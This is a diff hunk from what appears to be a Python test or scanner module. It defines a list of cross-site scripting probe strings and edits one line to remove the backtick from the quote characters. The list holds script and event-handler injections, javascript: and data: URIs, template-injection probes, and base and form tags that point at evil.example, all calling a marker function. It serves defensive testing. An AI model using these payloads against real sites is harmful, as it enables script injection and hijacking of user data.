@@ -28,7 +28,7 @@ _OUT = (
 PAYLOADS = (
     *(f"{out}<script>xss7()</script>" for out in _OUT),
     *(f"{out}<{tag} {on}=xss7()>" for out, tag, on in zip(_OUT, _TAGS, _ON * 2, strict=False)),
-    *(f"{quote} {on}=xss7() x={quote}" for quote in "'\"`" for on in _ON[:3]),
+    *(f"{quote} {on}=xss7() x={quote}" for quote in "'\"" for on in _ON[:3]),
     "javascript:xss7()", "JaVaScRiPt:xss7()", " javascript:xss7()", "java\tscript:xss7()", "data:text/html,<b xss7>",
     "{{ 7|xss7 }}", "{% xss7 %}", "${xss7()}", "<xss7>", "<xss7/onload=1>", "<<script>xss7()//<</script>", "&lt;xss7>",
     "<a href=javascript:xss7()>x</a>", "<base href=//evil.example/>", "<form action=//evil.example><button>x7",
